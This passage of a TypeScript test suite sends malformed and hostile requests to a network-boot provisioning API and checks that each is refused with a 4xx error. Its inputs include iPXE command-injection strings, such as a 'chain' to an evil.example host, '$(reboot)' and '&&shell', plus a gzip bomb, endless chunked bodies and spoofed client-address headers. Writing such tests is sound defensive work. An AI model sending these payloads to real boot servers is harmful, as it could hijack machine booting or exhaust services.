  for (const [method, path] of targets) {
    for (const [what, body] of invalid) add('JSON: invalid', { name: `${what}: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json']], body, expect: 400, slug: what.startsWith('random') || what.startsWith('UTF-16') ? undefined : 'invalid-json' });
    for (const [what, value] of shape) add('JSON: wrong shape', { name: `${what}: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json']], body: (s) => fill(json(value), s), expect: 400, slug: 'validation-error' });
    for (const [what, body] of deep) add('JSON: deeply nested', { name: `${what}: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json']], body, expect: 400, slug: 'validation-error' });
  }
  add(
    'JSON: wrong shape',
    { name: 'empty body', method: 'POST', path: '/api/v1/machines', headers: [['Content-Type', 'application/json']], body: '', expect: 400, slug: 'validation-error' },
    { name: 'a duplicate key, the last one wrong', method: 'PUT', path: '/api/v1/machines/{A}', headers: [['Content-Type', 'application/json']], body: `{"nics":[{"mac":"${macA}"}],"nics":"x"}`, expect: 400, slug: 'validation-error' },
    { name: "another machine's MAC (409, nothing written)", method: 'POST', path: '/api/v1/machines', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac: '52:54:00:ca:fe:21' }, { mac: macA.toUpperCase().replaceAll(':', '-') }] }), expect: 409, slug: 'duplicate-mac-address' },
    { name: "B takes A's MAC (409, B unchanged)", method: 'PUT', path: '/api/v1/machines/{B}', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac: macB }, { mac: macA2 }] }), expect: 409, slug: 'duplicate-mac-address' },
    { name: 'one MAC twice in a request', method: 'POST', path: '/api/v1/machines', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac: '52:54:00:ca:fe:22' }, { mac: '52-54-00-CA-FE-22' }] }), expect: 409, slug: 'duplicate-mac-address' },
  );

  const validJson = json({ nics: [{ mac: macA }, { mac: macA2 }, { mac: '52:54:00:ca:fe:23' }] });
  const types: [string, string, string | Buffer, number, string?][] = [
    ['text/plain', 'text/plain', validJson, 415],
    ['form-urlencoded', 'application/x-www-form-urlencoded', 'nics=52:54:00:ca:fe:23', 415],
    ['multipart', formType(), multipart([fieldPart('nics', validJson)]), 415],
    ['application/xml', 'application/xml', '<nics><mac>52:54:00:ca:fe:23</mac></nics>', 415],
    ['a +json type the parser does not parse', 'application/merge-patch+json', validJson, 415],
    ['application/vnd.api+json', 'application/vnd.api+json', validJson, 415],
    ['text/json', 'text/json', validJson, 415],
    ['application/jsonx', 'application/jsonx', validJson, 415],
    ['a latin1 charset', 'application/json; charset=latin1', validJson, 415],
    ['an unknown charset', 'application/json; charset=x-evil', validJson, 415],
    ['UTF-16 declared, garbage sent', 'application/json; charset=utf-16', '{"nics":[]}', 400],
    ['urlencoded nested 1000 deep', 'application/x-www-form-urlencoded', `a${'[b]'.repeat(1000)}=1`, 400],
    ['urlencoded with 5000 parameters', 'application/x-www-form-urlencoded', Array.from({ length: 5000 }, (_, i) => `a${i}=1`).join('&'), 400],
  ];
  for (const [method, path] of targets) {
    for (const [what, type, body, status] of types) add('wrong content types', { name: `${what}: ${method} ${path}`, method, path, headers: [['Content-Type', type]], body, expect: status });
    add(
      'wrong content types',
      { name: `no Content-Type: ${method} ${path}`, method, path, body: validJson, expect: 415, slug: 'unsupported-media-type' },
      { name: `gzip-compressed valid JSON (refused, not inflated): ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'gzip']], body: gzipSync(validJson), expect: 415, slug: 'unsupported-media-type' },
      { name: `a gzip bomb (64 MiB of spaces): ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'gzip']], body: gzipBomb, expect: 415, slug: 'unsupported-media-type' },
      { name: `deflate: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'deflate']], body: deflateSync(validJson), expect: 415 },
      { name: `br: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'br']], body: brotliCompressSync(validJson), expect: 415 },
      { name: `an unknown coding: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'x-evil']], body: validJson, expect: 415 },
      { name: `identity then gzip: ${method} ${path}`, method, path, headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'identity, gzip']], body: gzipSync(validJson), expect: 415 },
    );
  }
  add(
    'wrong content types',
    { name: 'invalid JSON to the liveness probe', method: 'GET', path: '/health/liveness', headers: [['Content-Type', 'application/json']], body: '{', expect: 400, slug: 'invalid-json' },
    { name: 'gzip to the startup probe', method: 'GET', path: '/health/startup', headers: [['Content-Type', 'application/json'], ['Content-Encoding', 'gzip']], body: gzipSync('{}'), expect: 415 },
    { name: 'invalid JSON to the sweeper (it does not run)', method: 'POST', path: '/internal/blobs/sweep', headers: [['Content-Type', 'application/json']], body: '{"all": tru', expect: 400, slug: 'invalid-json' },
    { name: 'gzip to the sweeper (it does not run)', method: 'POST', path: '/internal/blobs/sweep', headers: [['Content-Encoding', 'gzip']], body: gzipSync('x'), expect: 415 },
    { name: 'invalid JSON to the boot script', method: 'GET', path: `/boot.ipxe?mac=${macA}`, headers: [['Content-Type', 'application/json']], body: '[', expect: 400, slug: 'invalid-json' },
  );
}

// MAC addresses: invalid, and look-alikes of A's.
{
  const lookAlikes: [string, string][] = [
    ['empty', ''],
    ['a word', 'invalid'],
    ['a Cyrillic а', '52:54:00:cа:fe:01'],
    ['a Latin l for 1', '52:54:00:ca:fe:0l'],
    ['a letter O for 0', '52:54:O0:ca:fe:01'],
    ['fullwidth colons', '52：54：00：ca：fe：01'],
    ['a fullwidth digit', '52:54:00:ca:fe:0１'],
    ['a zero-width space', '52:54:00:ca:fe:01\u200b'],
    ['a trailing newline', `${macA}\n`],
    ['a trailing NUL', `${macA}\u0000`],
    ['a leading space', ` ${macA}`],
    ['a trailing space', `${macA} `],
    ['seven octets', `${macA}:00`],
    ['five octets', '52:54:00:ca:fe'],
    ['a one-digit octet', '52:54:0:ca:fe:01'],
    ['a three-digit octet', '052:54:00:ca:fe:01'],
    ['mixed separators', '52-54-00:ca:fe:01'],
    ['dots', '52.54.00.ca.fe.01'],
    ['Cisco form', '5254.00ca.fe01'],
    ['no separators', '525400cafe01'],
    ['two MACs in one', `${macA},${macA2}`],
    ['broadcast', 'ff:ff:ff:ff:ff:ff'],
    ['A with the group bit set', '53:54:00:ca:fe:01'],
    ['IPv4 multicast', '01:00:5e:00:00:01'],
    ['IPv6 multicast', '33:33:00:00:00:01'],
    ['all zero', '00:00:00:00:00:00'],
    ['an unexpanded iPXE setting', '${net0/mac}'],
    ['an iPXE command', `${macA}\nshell`],
    ['5000 characters', 'a'.repeat(5000)],
  ];
  for (const [what, mac] of lookAlikes) {
    const q = encodeURIComponent(mac);
    add(
      'MAC addresses: invalid and look-alike',
      { name: `${what}: GET /boot.ipxe`, method: 'GET', path: `/boot.ipxe?mac=${q}`, expect: 400, slug: 'invalid-mac-address' },
      { name: `${what}: GET /api/v1/machines?mac=`, method: 'GET', path: `/api/v1/machines?mac=${q}`, expect: 400, slug: 'validation-error' },
      { name: `${what}: POST /api/v1/machines`, method: 'POST', path: '/api/v1/machines', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac }] }), expect: 400, slug: 'validation-error' },
      { name: `${what}: PUT /api/v1/machines/{B}`, method: 'PUT', path: '/api/v1/machines/{B}', headers: [['Content-Type', 'application/json']], body: json({ nics: [{ mac: macB }, { mac }] }), expect: 400, slug: 'validation-error' },
    );
  }
  const queries: [string, string][] = [
    ['no mac', ''],
    ['mac twice', `?mac=${macA}&mac=${macA}`],
    ['mac[]', `?mac[]=${macA}`],
    ['mac[0]', `?mac[0]=${macA}`],
    ['MAC in upper case', `?MAC=${macA}`],
    ['an encoded =', `?mac%3D${macA}`],
    ['a malformed escape', '?mac=52%3A54%3A00%3Aca%3Afe%3A0%G1'],
  ];
  for (const [what, query] of queries) add('MAC addresses: invalid and look-alike', { name: `${what}: GET /boot.ipxe`, method: 'GET', path: `/boot.ipxe${query}`, expect: 400, slug: 'invalid-mac-address' });
}

// Boot profile uploads: malformed, truncated, endless, huge, over the limits, of the wrong type.
{
  const formPath: Record<Target, { method: string; path: string }> = {
    create: { method: 'POST', path: '/api/v1/profiles' },
    replace: { method: 'PUT', path: '/api/v1/boot/{A}/profile' },
  };
  /** The parts of a complete, valid form for `target` (B's new profile, or A's replacement). */
  const valid = (s: Seed, target: Target, overrides: { kernel?: Buffer; initrd?: Buffer; args?: string } = {}): Part[] => [
    ...(target === 'create' ? [fieldPart('machine_id', s.B)] : []),
    kernelPart(overrides.kernel ?? kernel),
    initrdPart(overrides.initrd ?? initrd),
    fieldPart('kernel_args', overrides.args ?? '["console=ttyS0"]'),
  ];
  const upload = (category: string, name: string, body: (s: Seed, t: Target) => Buffer, expect: Expected, slug?: string, contentType: string = formType(), targets: Target[] = ['create', 'replace']) => {
    for (const t of targets) {
      add(category, { name: `${name}: ${formPath[t].method} ${formPath[t].path}`, ...formPath[t], headers: [['Content-Type', contentType]], body: (s) => body(s, t), expect, ...(slug ? { slug } : {}) });
    }
  };
  const whole = (s: Seed, t: Target) => multipart(valid(s, t));
  const M = 'multipart: malformed and truncated';
  upload(M, 'truncated inside the kernel data', (s, t) => whole(s, t).subarray(0, 600), 400, 'validation-error');
  upload(M, 'truncated inside part headers', (s, t) => { const b = whole(s, t); return b.subarray(0, b.indexOf('Content-Disposition: form-data; name="kernel"') + 30); }, 400, 'validation-error');
  upload(M, 'truncated right after the first boundary', () => Buffer.from(`--${boundary}\r\n`), 400, 'validation-error');
  upload(M, 'only the closing boundary', () => Buffer.from(`--${boundary}--\r\n`), 400, 'validation-error');
  upload(M, 'an empty body', () => Buffer.alloc(0), 400, 'validation-error');
  upload(M, 'a boundary that never closes', (s, t) => multipart(valid(s, t), { close: false }), 400, 'validation-error');
  upload(M, 'a different boundary in the body', (s, t) => multipart(valid(s, t), { boundary: 'other-boundary' }), 400, 'validation-error');
  upload(M, 'no blank line after part headers', () => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="kernel"; filename="k"\r\nxxxx\r\n--${boundary}--\r\n`), 400, 'validation-error');
  upload(M, 'a 100 KiB part header', (s, t) => multipart([{ rawHeaders: [`Content-Disposition: form-data; name="kernel"; filename="${'k'.repeat(100 * KiB)}"`], data: kernel }, ...valid(s, t).slice(1)]), 400, 'validation-error');
  upload(M, 'a part without Content-Disposition', (s, t) => multipart([{ rawHeaders: ['Content-Type: application/octet-stream'], data: kernel }, ...valid(s, t).filter((p) => p.name !== 'kernel')]), 400, 'validation-error');
  upload(M, 'a part without a name', (s, t) => multipart([{ filename: 'vmlinuz', data: kernel }, ...valid(s, t).filter((p) => p.name !== 'kernel')]), 400, 'validation-error');
  upload(M, 'Content-Disposition: attachment', (s, t) => multipart([{ rawHeaders: ['Content-Disposition: attachment; name="kernel"; filename="k"'], data: kernel }, ...valid(s, t).filter((p) => p.name !== 'kernel')]), 400, 'validation-error');
  upload(M, 'a nested multipart/mixed', (s, t) => multipart([...valid(s, t).filter((p) => p.name !== 'initrd'), { name: 'initrd', contentType: 'multipart/mixed; boundary=inner', data: `--inner\r\nContent-Type: text/plain\r\n\r\nx\r\n--inner--` }, fieldPart('extra', 'x')]), 400, 'validation-error');
  upload(M, 'a preamble of 1 MiB', (s, t) => multipart(valid(s, t).slice(0, -2), { preamble: 'p'.repeat(MiB) }), 400, 'validation-error');
  upload(M, 'a 200-character boundary', (s, t) => multipart(valid(s, t).slice(1), { boundary: 'b'.repeat(200) }), 400, 'validation-error', formType('b'.repeat(200)));
  add(M, {
    name: 'a boundary that never closes, socket held open then ended (chunked)',
    method: 'POST',
    path: '/api/v1/profiles',
    expect: 400,
    slug: 'validation-error',
    wire: (s) => {
      const partial = multipart(valid(s, 'create'), { close: false });
      return {
        head: requestHead('POST', '/api/v1/profiles', [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', formType()], ['Transfer-Encoding', 'chunked']]),
        body: Buffer.concat([Buffer.from(`${partial.length.toString(16)}\r\n`), partial, Buffer.from('\r\n')]),
        then: [{ pauseMs: 500, data: Buffer.from('0\r\n\r\n') }],
      };
    },
  });
  add(M, {
    name: 'a form cut short: Content-Length promises more, socket held open then ended',
    method: 'PUT',
    path: '/api/v1/boot/{A}/profile',
    expect: 400,
    wire: (s) => {
      const form = multipart(valid(s, 'replace'));
      return {
        head: requestHead('PUT', `/api/v1/boot/${s.A}/profile`, [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', formType()], ['Content-Length', String(form.length)]]),
        body: form.subarray(0, form.length - 700),
        then: [{ pauseMs: 500, end: true }],
      };
    },
  });

  const P = 'multipart: thousands of parts, huge values';
  upload(P, '5000 text fields', () => multipart(Array.from({ length: 5000 }, (_, i) => fieldPart(`f${i}`, 'x'))), 400, 'validation-error');
  upload(P, '3000 kernel file parts', (s, t) => multipart([...valid(s, t), ...Array.from({ length: 3000 }, () => kernelPart(Buffer.from('k')))]), 400, 'validation-error');
  upload(P, '2000 parts of 20 headers each', () => multipart(Array.from({ length: 2000 }, (_, i) => ({ rawHeaders: [`Content-Disposition: form-data; name="f${i}"`, ...Array.from({ length: 19 }, (__, j) => `X-H${j}: v`)], data: 'x' }))), 400, 'validation-error');
  upload(P, 'a 1 MiB machine_id', (s, t) => multipart([fieldPart('machine_id', 'a'.repeat(MiB)), ...valid(s, t).filter((p) => p.name !== 'machine_id')]), 400, 'validation-error', formType(), ['create']);
  upload(P, 'a 1 MiB kernel_args', (s, t) => multipart(valid(s, t, { args: `["${'a'.repeat(MiB)}"]` })), 400, 'validation-error');
  upload(P, 'a 1000-character field name', (s, t) => multipart([...valid(s, t), fieldPart('n'.repeat(1000), 'x')]), 400, 'validation-error');
  upload(P, 'kernel given as a text field', (s, t) => multipart([fieldPart('kernel', 'not a file'), ...valid(s, t).filter((p) => p.name !== 'kernel')]), 400, 'validation-error');
  upload(P, 'machine_id given as a file', (s, t) => multipart([{ name: 'machine_id', filename: 'id.txt', data: s.B }, ...valid(s, t).filter((p) => p.name !== 'machine_id')]), 400, 'validation-error', formType(), ['create']);
  upload(P, 'machine_id on a replace', (s) => multipart([fieldPart('machine_id', s.B), ...valid(s, 'replace')]), 400, 'validation-error', formType(), ['replace']);
  upload(P, 'an empty kernel', (s, t) => multipart(valid(s, t, { kernel: Buffer.alloc(0) })), 400, 'validation-error');
  upload(P, 'no initrd', (s, t) => multipart(valid(s, t).filter((p) => p.name !== 'initrd')), 400, 'validation-error');
  upload(P, 'no kernel', (s, t) => multipart(valid(s, t).filter((p) => p.name !== 'kernel')), 400, 'validation-error');
  upload(P, 'no machine_id', (s) => multipart(valid(s, 'replace')), 400, 'validation-error', formType(), ['create']);
  upload(P, 'the kernel twice', (s, t) => multipart([...valid(s, t), kernelPart(kernel)]), 400, 'validation-error');
  upload(P, 'an unknown file part', (s, t) => multipart([...valid(s, t), { name: 'script', filename: 'x.ipxe', data: '#!ipxe\nshell' }]), 400, 'validation-error');
  upload(P, 'machine_id a UUIDv4', (s) => multipart([fieldPart('machine_id', '3b241101-e2bb-4255-8caf-4136c566a962'), ...valid(s, 'replace')]), 400, 'validation-error', formType(), ['create']);
  upload(P, 'machine_id with trailing junk', (s) => multipart([fieldPart('machine_id', `${s.B}; DROP`), ...valid(s, 'replace')]), 400, 'validation-error', formType(), ['create']);
  upload(P, 'machine_id of no machine', (s) => multipart([fieldPart('machine_id', s.U), ...valid(s, 'replace')]), 422, 'unknown-machine', formType(), ['create']);
  upload(P, 'machine_id of a profile', (s) => multipart([fieldPart('machine_id', s.P), ...valid(s, 'replace')]), 422, 'unknown-machine', formType(), ['create']);
  upload(P, 'machine_id of a machine that has a profile', (s) => multipart([fieldPart('machine_id', s.A), ...valid(s, 'replace')]), 409, 'boot-profile-exists', formType(), ['create']);

  const L = 'multipart: files over the limit';
  upload(L, 'a kernel one byte over the limit', (s, t) => multipart(valid(s, t, { kernel: randomBytes(FILE_LIMIT + 1) })), 422, 'file-too-large');
  upload(L, 'an initrd one byte over the limit', (s, t) => multipart(valid(s, t, { initrd: randomBytes(FILE_LIMIT + 1) })), 422, 'file-too-large');
  upload(L, 'both files 1 MiB', (s, t) => multipart(valid(s, t, { kernel: randomBytes(MiB), initrd: randomBytes(MiB - 4 * KiB) })), 422, 'file-too-large');

  const W = 'wrong content types';
  upload(W, 'multipart without a boundary', (s, t) => whole(s, t), 415, 'unsupported-media-type', 'multipart/form-data');
  upload(W, 'an empty boundary', (s, t) => whole(s, t), 400, 'validation-error', 'multipart/form-data; boundary=');
  upload(W, 'multipart/mixed', (s, t) => whole(s, t), 415, 'unsupported-media-type', `multipart/mixed; boundary=${boundary}`);
  upload(W, 'JSON', (s) => Buffer.from(json({ machine_id: s.B, kernel: kernel.toString('base64'), initrd: initrd.toString('base64'), kernel_args: [] })), 415, 'unsupported-media-type', 'application/json');
  upload(W, 'invalid JSON', () => Buffer.from('{"kernel":'), 400, 'invalid-json', 'application/json');
  upload(W, 'form-urlencoded', (s) => Buffer.from(`machine_id=${s.B}&kernel=x&initrd=y`), 415, 'unsupported-media-type', 'application/x-www-form-urlencoded');
  upload(W, 'text/plain', (s, t) => whole(s, t), 415, 'unsupported-media-type', 'text/plain');
  upload(W, 'a raw kernel as octet-stream', () => kernel, 415, 'unsupported-media-type', 'application/octet-stream');
  for (const t of ['create', 'replace'] as const) {
    add(W, { name: `gzip-compressed form: ${formPath[t].method} ${formPath[t].path}`, ...formPath[t], headers: [['Content-Type', formType()], ['Content-Encoding', 'gzip']], body: (s) => gzipSync(whole(s, t)), expect: 415, slug: 'unsupported-media-type' });
  }

  // Kernel arguments that would smuggle iPXE syntax onto the kernel line, and other bad values.
  const K = 'kernel args that inject iPXE commands';
  const injections: [string, string][] = [
    ['a newline and a command', json(['quiet\nshell'])],
    ['CRLF and chain', json(['quiet\r\nchain http://evil.example/x.ipxe'])],
    ['a new script header', json(['console=ttyS0\n#!ipxe'])],
    ['settings expansion', json(['${net0/mac}'])],
    ['settings expansion of a secret', json(['pw=${password}'])],
    ['&& chaining', json(['quiet&&shell'])],
    ['|| chaining', json(['quiet||reboot'])],
    ['&& as its own argument', json(['quiet', '&&', 'shell'])],
    ['a comment', json(['x#comment'])],
    ['a space (two arguments in one)', json(['quiet shell'])],
    ['a tab', json(['quiet\tshell'])],
    ['a vertical tab', json(['quiet\u000bshell'])],
    ['a form feed', json(['quiet\fshell'])],
    ['a NUL', json(['quiet\u0000'])],
    ['DEL', json(['quiet\u007f'])],
    ['U+2028 line separator', json(['quiet\u2028shell'])],
    ['a non-ASCII look-alike', json(['ｓhell'])],
    ['double quotes', json(['"quoted"'])],
    ['single quotes', json(["'quoted'"])],
    ['a backslash', json(['a\\nshell'])],
    ['command substitution', json(['$(reboot)'])],
    ['backticks', json(['`reboot`'])],
    ['a pipe', json(['a|b'])],
    ['a second initrd', json(['initrd=http://evil.example/initrd'])],
    ['initrd= itself', json(['initrd=initrd'])],
    ['an empty argument', json([''])],
    ['65 arguments', json(Array.from({ length: 65 }, () => 'a'))],
    ['a 257-character argument', json(['a'.repeat(257)])],
    ['2440 characters together', json(Array.from({ length: 40 }, () => 'a'.repeat(60)))],
    ['a number', json([1])],
    ['null in the list', json(['quiet', null])],
    ['a nested list', json([['quiet']])],
    ['an object', json({ console: 'ttyS0' })],
    ['a bare string', json('console=ttyS0')],
    ['null', 'null'],
    ['not JSON', 'console=ttyS0 quiet'],
    ['an empty value', ''],
    ['truncated JSON', '["quiet"'],
    ['a 30k-deep array', `${'['.repeat(30_000)}${']'.repeat(30_000)}`],
  ];
  for (const [what, args] of injections) upload(K, what, (s, t) => multipart(valid(s, t, { args })), 422, 'invalid-kernel-args');
  upload(K, 'as a file part (curl -F kernel_args=@file)', (s, t) => multipart([...valid(s, t).filter((p) => p.name !== 'kernel_args'), { name: 'kernel_args', filename: 'args.json', contentType: 'application/json', data: json(['quiet\nshell']) }]), 422, 'invalid-kernel-args');
}

// Spoofed client addresses: the boot network is 10.8.0.0/24 here, the test client is 127.0.0.1.
{
  const spoofs: [string, HeaderList][] = [
    ['X-Forwarded-For', [['X-Forwarded-For', '10.8.0.5']]],
    ['X-Forwarded-For with two entries', [['X-Forwarded-For', '10.8.0.5, 10.8.0.6']]],
    ['two X-Forwarded-For headers', [['X-Forwarded-For', '10.8.0.5'], ['X-Forwarded-For', '10.8.0.6']]],
    ['X-Forwarded-For with a trailing comma', [['X-Forwarded-For', '10.8.0.5,']]],
    ['X-Forwarded-For IPv6 in range', [['X-Forwarded-For', 'fd00::5']]],
    ['X-Forwarded-For IPv4-mapped', [['X-Forwarded-For', '::ffff:10.8.0.5']]],
    ['X-Forwarded-For of 500 entries', [['X-Forwarded-For', Array.from({ length: 500 }, () => '10.8.0.5').join(', ')]]],
    ['Forwarded', [['Forwarded', 'for=10.8.0.5;proto=https']]],
    ['X-Real-IP', [['X-Real-IP', '10.8.0.5']]],
    ['other client-address headers', [['X-Client-IP', '10.8.0.5'], ['True-Client-IP', '10.8.0.5'], ['CF-Connecting-IP', '10.8.0.5'], ['Fastly-Client-IP', '10.8.0.5']]],
    ['X-Forwarded-For named hop-by-hop', [['X-Forwarded-For', '10.8.0.5'], ['Connection', 'close, X-Forwarded-For']]],
    ['X-Forwarded-For with Host and proto', [['X-Forwarded-For', '10.8.0.5'], ['X-Forwarded-Host', 'boot.internal'], ['X-Forwarded-Proto', 'https']]],
  ];
  for (const [what, headers] of spoofs) {
    for (const path of [`/boot.ipxe?mac=${macA}`, '/asset/{P}/kernel', '/asset/{P}/initrd']) {
      add('spoofed X-Forwarded-For', {
        name: `${what}: GET ${path}`,
        method: 'GET',
        path,
        headers,
        env: { BOOT_ALLOWED_CIDRS: '10.8.0.0/24,fd00::/64' },
        expect: 403,
        slug: 'forbidden',
        check: (_res, body) => (body?.client_address === '127.0.0.1' ? undefined : `client_address is ${String(body?.client_address)}`),
      });
    }
  }
  // Streamed assets: byte ranges past the end.
  for (const [kind, range] of [['kernel', 'bytes=999999999-'], ['initrd', 'bytes=100000000-200000000'], ['kernel', 'bytes=-0']] as const) {
    add('asset byte ranges (proxy mode)', { name: `proxy mode, unsatisfiable ${range} of the ${kind}`, method: 'GET', path: `/asset/{P}/${kind}`, headers: [['Range', range]], env: { ASSET_DELIVERY: 'proxy' }, expect: 416, slug: 'range-not-satisfiable' });
  }
}

// Bodies over MAX_REQUEST_BYTES: refused from the declared length, or while streaming, before any parser sees them.
{
  const O = 'bodies over the request limit';
  const over = Buffer.alloc(MAX_REQUEST_BYTES + 1, 0x20);
  const targets: [string, string, string][] = [
    ['POST', '/api/v1/machines', 'application/json'],
    ['PUT', '/api/v1/machines/{A}', 'application/json'],
    ['POST', '/api/v1/profiles', formType()],
    ['PUT', '/api/v1/boot/{A}/profile', formType()],
    ['POST', '/internal/blobs/sweep', 'application/json'],
    ['GET', '/health/liveness', 'application/octet-stream'],
    ['GET', `/boot.ipxe?mac=${macA}`, 'text/plain'],
    ['GET', '/asset/{P}/kernel', 'text/plain'],
  ];
  const tooLarge = (res: WireResponse, body: Record<string, unknown> | undefined) => (body?.max_size === MAX_REQUEST_BYTES ? undefined : `max_size is ${String(body?.max_size)}`);
  for (const [method, path, type] of targets) {
    add(O, { name: `one byte over, sent: ${method} ${path}`, method, path, headers: [['Content-Type', type]], body: over, expect: 413, slug: 'payload-too-large', check: tooLarge });
    add(O, {
      name: `chunked without end, counted while streaming: ${method} ${path}`,
      method,
      path,
      expect: 413,
      slug: 'payload-too-large',
      check: (res, body) => tooLarge(res, body) ?? (res.bodyBytesSent < 32 * MiB ? undefined : 'answered only after the client stopped'),
      wire: (s) => ({ head: requestHead(method, fill(path, s), [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', type], ['Transfer-Encoding', 'chunked']]), endlessChunks: { chunkBytes: 64 * KiB, upToBytes: 32 * MiB } }),
    });
  }
  add(
    O,
    {
      name: '10 GiB declared, nothing sent: answered from the headers',
      method: 'POST',
      path: '/api/v1/profiles',
      expect: 413,
      slug: 'payload-too-large',
      wire: (s) => ({ head: requestHead('POST', '/api/v1/profiles', [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', formType()], ['Content-Length', String(10 * 1024 * MiB)]]) }),
    },
    {
      name: 'Expect: 100-continue over the limit gets no 100 Continue',
      method: 'PUT',
      path: '/api/v1/boot/{A}/profile',
      expect: 413,
      slug: 'payload-too-large',
      check: (res) => (res.interim.length === 0 ? undefined : `interim answers ${res.interim.join(', ')}`),
      wire: (s) => ({ head: requestHead('PUT', `/api/v1/boot/${s.A}/profile`, [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', formType()], ['Content-Length', String(3 * MiB)], ['Expect', '100-continue']]) }),
    },
    {
      name: 'exactly the limit of invalid JSON is read and refused as JSON',
      method: 'POST',
      path: '/api/v1/machines',
      headers: [['Content-Type', 'application/json']],
      body: Buffer.concat([Buffer.from('{'), Buffer.alloc(MAX_REQUEST_BYTES - 1, 0x20)]),
      expect: 400,
      slug: 'invalid-json',
    },
    {
      name: 'a small chunked body of invalid JSON',
      method: 'POST',
      path: '/api/v1/machines',
      expect: 400,
      slug: 'invalid-json',
      wire: (s) => ({ head: requestHead('POST', '/api/v1/machines', [['Host', s.host], ['Authorization', `Bearer ${s.token}`], ['Content-Type', 'application/json'], ['Transfer-Encoding', 'chunked']]), body: Buffer.from('1\r\n{\r\n0\r\n\r\n') }),
    },
  );
}

// ---------------------------------------------------------------- sending and judging

/** The request for `c` as bytes: Host, the admin token on /api/ paths, Content-Length, Connection: close. */
function planFor(c: HostileCase, s: Seed): WirePlan {
  if (c.wire) return c.wire(s);
  const given = lazy(c.headers, s) ?? [];
  const has = (name: string) => given.some(([n]) => n.toLowerCase() === name);
  const body = lazy(c.body, s);
  const bytes = body === undefined ? undefined : typeof body === 'string' ? Buffer.from(body) : body;
  const path = c.pathOf?.(s) ?? fill(c.path, s);
  const headers: HeaderList = [
    ['Host', s.host],
    ...(path.startsWith('/api/') && c.auth !== 'none' && !has('authorization') ? bearer(s.token) : []),
    ...given.map(([n, v]) => [n, fill(v, s)] as [string, string]),
    ...(bytes && !has('content-length') && !has('transfer-encoding') ? [['Content-Length', String(bytes.length)] as [string, string]] : []),
    ...(has('connection') ? [] : [['Connection', 'close'] as [string, string]]),
  ];
  return { head: requestHead(c.method, path, headers), ...(bytes ? { body: bytes } : {}) };
}

/** Everything wrong with an answer; empty when it is the 4xx problem+json it should be. */
function judge(c: HostileCase, res: WireResponse): string[] {
  const wrong: string[] = [];
  const statusOk = c.expect === '4xx' ? res.status >= 400 && res.status <= 499 : res.status === c.expect;
  if (!statusOk) wrong.push(`status ${res.status}, expected ${c.expect}`);
  if (res.headers['content-type'] !== 'application/problem+json') wrong.push(`Content-Type is ${res.headers['content-type']}`);
  let body: Record<string, unknown> | undefined;
  if (c.method === 'HEAD') {
    if (!(Number(res.headers['content-length']) > 0)) wrong.push('HEAD answer without the problem’s Content-Length');
  } else {
    try {
      body = JSON.parse(res.body.toString('utf8')) as Record<string, unknown>;
    } catch {
      wrong.push(`body is not JSON: ${JSON.stringify(res.body.subarray(0, 200).toString('utf8'))}`);
    }
    if (body) {
      for (const member of ['type', 'title', 'detail', 'instance'] as const) if (typeof body[member] !== 'string') wrong.push(`problem member ${member} is ${typeof body[member]}`);
      if (body.status !== res.status) wrong.push(`problem status ${String(body.status)} differs from HTTP ${res.status}`);
      if (c.slug && body.type !== `https://api.example.com/errors/${c.slug}`) wrong.push(`type ${String(body.type)}, expected ${c.slug}`);
      if (body.request_id !== res.headers['x-request-id']) wrong.push(`request_id ${String(body.request_id)} is not X-Request-Id ${res.headers['x-request-id']}`);
    }
  }
  const extra = c.check?.(res, body);
  if (extra) wrong.push(extra);
  if (wrong.length > 0 && body) wrong.push(`answer: ${JSON.stringify(body).slice(0, 400)}`);
  return wrong;
}

async function withEnv<T>(env: Record<string, string> | undefined, run: () => Promise<T>): Promise<T> {
  if (!env) return run();
  const previous = Object.fromEntries(Object.keys(env).map((k) => [k, process.env[k]]));
  setEnv(env);
  try {
    return await run();
  } finally {
    setEnv(previous);
  }
}

let seed: Seed;
let before: StateSnapshot;
let passed = 0;

beforeAll(async () => {
  const api = (method: string, path: string, init?: Parameters<typeof request>[3]) => request<Record<string, unknown>>(stack.url, method, path, init);
  const a = await api('POST', '/api/v1/machines', { json: aMachine({ nics: [{ mac: macA }, { mac: macA2 }] }) });
  const b = await api('POST', '/api/v1/machines', { json: aMachine({ nics: [{ mac: macB }] }) });
  expect([a.status, b.status]).toEqual([201, 201]);
  const profile = await postProfile(stack.url, profileForm({ machine_id: a.body.id as string, kernel, initrd, kernel_args: '["console=ttyS0","ip=dhcp"]' }));
  expect(profile.status).toBe(201);
  const url = new URL(stack.url);
  seed = { port: Number(url.port), host: url.host, token: mintLocalToken(), A: a.body.id as string, B: b.body.id as string, P: profile.body.id, U: uuidv7() };
  before = await snapshotState();
  expect(before.documents.machines).toHaveLength(2);
  expect(before.documents.boot_profiles).toHaveLength(1);
  expect(before.objects).toHaveLength(2);
});

const categories = [...new Set(table.map((c) => c.category))];
for (const category of categories) {
  describe(category, () => {
    it.each(table.filter((c) => c.category === category))('$name', async (c) => {
      const res = await withEnv(c.env, () => sendOnWire(seed.port, planFor(c, seed), { timeoutMs: TIMEOUT_MS, head: c.method === 'HEAD' }));
      expect(judge(c, res)).toEqual([]);
      passed++;
    });
  });
}

describe('afterwards', () => {
  it('storage and database are exactly as before every hostile request', async () => {
    expect(await snapshotState()).toEqual(before);
  });

  it('every case got a 4xx problem+json answer', () => {
    expect(table.length).toBeGreaterThanOrEqual(200);
